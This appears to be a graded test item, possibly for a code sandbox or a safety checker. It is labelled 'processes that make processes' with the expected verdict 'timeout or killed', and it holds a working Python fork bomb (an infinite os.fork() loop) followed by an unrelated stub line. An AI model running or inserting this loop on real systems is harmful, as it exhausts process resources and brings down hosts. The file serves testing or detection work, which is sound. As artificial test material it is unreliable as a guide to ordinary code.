# why: processes that make processes
# points: 1
# verdict: timeout or killed

# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

# %%
total = numbers.sum()
